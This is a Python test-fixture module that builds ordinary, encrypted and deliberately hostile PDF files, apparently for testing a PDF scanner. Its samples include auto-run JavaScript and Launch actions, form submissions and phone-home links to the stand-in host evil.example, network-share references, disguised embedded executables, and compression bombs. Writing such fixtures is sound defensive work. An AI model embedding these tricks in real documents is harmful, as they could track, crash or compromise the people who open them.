"""PDF files for tests, made with pypdf: ordinary, encrypted, and hostile ones."""

from __future__ import annotations

import functools
import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject


def _out(writer: PdfWriter) -> bytes:
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


def plain_pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(612, 792)
    return _out(writer)


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.encrypt("secret")
    return _out(writer)


def _open_action_pdf(kind: str, key: str, value: str) -> bytes:
    """A one-page PDF whose /OpenAction is an action of ``kind`` (run when the file opens)."""
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    action = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _out(writer)


def javascript_pdf() -> bytes:
    return _open_action_pdf("/JavaScript", "/JS", "app.alert('hello');")


def open_action_launch_pdf() -> bytes:
    return _open_action_pdf("/Launch", "/F", "calc.exe")


def embedded_file_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(612, 792)
    writer.add_attachment("payload.exe", b"MZ...")
    return _out(writer)


# -- hand-built PDFs -------------------------------------------------------------------------
# Hostile files are written object by object, so that each carries exactly the trick it
# tests (an indirect /S, a loose embedded file, a looping page tree) and no library
# between the test and the bytes repairs or drops it.

CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"


def raw_pdf(objects: list[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF whose object ``n`` (from 1) is ``objects[n-1]``, with a correct xref table.

    Object 1 is the catalog. A body may be a stream: pass ``stream(dictionary, data)``.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (len(objects) + 1, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def stream(dictionary: bytes, data: bytes) -> bytes:
    """A stream object body: ``dictionary`` is the inside of << >> without /Length."""
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(data), data)


def one_page(*extra: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A one-page PDF; ``catalog`` and ``page`` add entries, ``extra`` are objects 4, 5..."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
            PAGES,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] %s >>" % page,
            *extra,
        ]
    )


def _link(action: bytes) -> bytes:
    return b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A %s >>" % (
        action
    )


def web_link_pdf() -> bytes:
    """An ordinary page with text and a plain web link a reader clicks: acceptable."""
    text = b"BT /F1 12 Tf 72 706 Td (Massachusetts victim services) Tj ET"
    return one_page(
        _link(b"<< /S /URI /URI (https://www.mass.gov/victim-services) >>"),
        stream(b"", text),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        page=b"/Annots [4 0 R] /Contents 5 0 R /Resources << /Font << /F1 6 0 R >> >>",
    )


def xfa_script_pdf() -> bytes:
    xdp = (
        b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event '
        b'activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('http://evil.example/');</script></event></subform></template></xdp:xdp>"
    )
    return one_page(
        b"<< /Fields [] /XFA 5 0 R >>",
        stream(b"/Filter /FlateDecode", zlib.compress(xdp)),
        catalog=b"/AcroForm 4 0 R",
    )


def indirect_launch_pdf() -> bytes:
    """/S is a reference to an object that is the name /Launch."""
    return one_page(b"<< /S 5 0 R /F (calc.exe) >>", b"/Launch", catalog=b"/OpenAction 4 0 R")


def indirect_submit_form_pdf() -> bytes:
    return one_page(
        _link(b"<< /S 5 0 R /F << /FS /URL /F (http://evil.example/collect) >> >>"),
        b"/SubmitForm",
        page=b"/Annots [4 0 R]",
    )


def import_data_pdf() -> bytes:
    return one_page(b"<< /S /ImportData /F (data.fdf) >>", catalog=b"/OpenAction 4 0 R")


def loose_embedded_file_pdf() -> bytes:
    """A file specification with its embedded file, reached from no /EmbeddedFiles tree."""
    return one_page(
        b"<< /Type /Filespec /F (invoice.exe) /EF << /F 5 0 R >> >>",
        stream(b"", b"MZ\x90\x00 pretend program"),
    )


def orphan_embedded_file_pdf() -> bytes:
    """An embedded-file stream on its own, referenced by nothing at all."""
    return one_page(stream(b"/Type /EmbeddedFile", b"MZ\x90\x00 pretend program"))


def gotor_share_pdf() -> bytes:
    return one_page(
        _link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\report.pdf) /D [0 /Fit] >>"),
        page=b"/Annots [4 0 R]",
    )


def gote_pdf() -> bytes:
    return one_page(b"<< /S /GoToE /T << /R /C /N (inner.pdf) >> >>", catalog=b"/OpenAction 4 0 R")


def javascript_uri_open_action_pdf() -> bytes:
    return one_page(
        b"<< /S /URI /URI (java\\tscript:app.alert\\(1\\)) >>", catalog=b"/OpenAction 4 0 R"
    )


def javascript_uri_link_pdf() -> bytes:
    return one_page(
        _link(b"<< /S /URI /URI (JavaScript:app.alert\\(1\\)) >>"), page=b"/Annots [4 0 R]"
    )


def phone_home_open_action_pdf() -> bytes:
    """An ordinary-looking web address, but opened by the file itself: it tells who read it."""
    return one_page(
        b"<< /S /URI /URI (http://evil.example/opened?case=1) >>", catalog=b"/OpenAction 4 0 R"
    )


def phone_home_page_open_pdf() -> bytes:
    """The same, hidden in the page's additional actions (run when the page is shown)."""
    return one_page(b"<< /S /URI /URI (http://evil.example/seen) >>", page=b"/AA << /O 4 0 R >>")


def javascript_link_pdf() -> bytes:
    return one_page(
        _link(b"<< /S /JavaScript /JS (app.alert\\('hello'\\);) >>"), page=b"/Annots [4 0 R]"
    )


def javascript_names_tree_pdf() -> bytes:
    return one_page(
        b"<< /JavaScript << /Names [(init) 5 0 R] >> >>",
        b"<< /S /JavaScript /JS 6 0 R >>",
        stream(b"", b"app.alert('from the names tree');"),
        catalog=b"/Names 4 0 R",
    )


def external_stream_pdf() -> bytes:
    """A content stream whose data is to be fetched from a network share."""
    return one_page(
        stream(b"/F (\\\\\\\\evil\\\\share\\\\content.bin)", b""), page=b"/Contents 4 0 R"
    )


@functools.cache
def _zeros_deflated(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


def flate_bomb_pdf(megabytes: int = 300) -> bytes:
    """A content stream of ``megabytes`` MB of zeros, about a thousandth of that on disk."""
    data = _zeros_deflated(megabytes)
    return one_page(stream(b"/Filter /FlateDecode", data), page=b"/Contents 4 0 R")


def nested_flate_bomb_pdf() -> bytes:
    """Deflated twice: 300 MB from about one kilobyte."""
    data = zlib.compress(_zeros_deflated(300), 9)
    return one_page(stream(b"/Filter [/FlateDecode /FlateDecode]", data), page=b"/Contents 4 0 R")


def ratio_bomb_pdf() -> bytes:
    """Only 20 MB inflated (under the 100 MB cap), but 1,000 times the file's size."""
    return flate_bomb_pdf(20)


def run_length_bomb_pdf() -> bytes:
    """Run-length coding (decoded by qpdf, not by the scan): 320 MB from 5 MB."""
    data = b"\x81\x00" * (5 * 1024 * 1024 // 2) + b"\x80"
    return one_page(stream(b"/Filter /RunLengthDecode", data), page=b"/Contents 4 0 R")


def many_pages_pdf(pages: int = 100_000) -> bytes:
    first = 3
    kids = b" ".join(b"%d 0 R" % (first + i) for i in range(pages))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
    return raw_pdf(
        [CATALOG, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages)] + [page] * pages
    )


def many_objects_pdf(objects: int = 300_000) -> bytes:
    return raw_pdf([CATALOG, PAGES, PAGE] + [b"null"] * objects)


def looping_page_tree_pdf() -> bytes:
    """The page tree's node lists itself among its kids."""
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", PAGE])


def repeated_page_pdf() -> bytes:
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>", PAGE])


def broken_page_tree_pdf() -> bytes:
    """A kid that is a number, not a page."""
    return raw_pdf([CATALOG, b"<< /Type /Pages /Kids [3 0 R 42] /Count 2 >>", PAGE])


def many_streams_pdf(streams: int) -> bytes:
    """Many small deflated streams: slow to check, for the CPU limit's test."""
    body = stream(b"/Filter /FlateDecode", zlib.compress(b"q Q\n" * 64))
    return raw_pdf([CATALOG, PAGES, PAGE] + [body] * streams)


def _lzw_codes(codes: list[int]) -> bytes:
    """Pack LZW codes the way a PDF reader unpacks them (9 to 12 bits, early change)."""
    bits = held = 0
    out = bytearray()
    width, table, first = 9, 258, True
    for code in codes:
        bits = (bits << width) | code
        held += width
        while held >= 8:
            held -= 8
            out.append((bits >> held) & 0xFF)
        bits &= (1 << held) - 1
        if not first and table < 4096:
            table += 1
        first = False
        if table + 1 >= 1 << width and width < 12:
            width += 1
    return bytes(out + bytes([(bits << (8 - held)) & 0xFF] if held else []))


def lzw_text_pdf() -> bytes:
    """The PDF reference's own LZW example ("-----A---B") as a content stream: acceptable."""
    data = bytes.fromhex("800B6050220C0C8501")
    return one_page(stream(b"/Filter /LZWDecode", data), page=b"/Contents 4 0 R")


def lzw_bomb_pdf() -> bytes:
    """LZW of zeros: each code past the table's growth stands for about 3,800 bytes."""
    codes = [0, *range(258, 4096), *([4095] * 100_000), 257]
    return one_page(stream(b"/Filter /LZWDecode", _lzw_codes(codes)), page=b"/Contents 4 0 R")
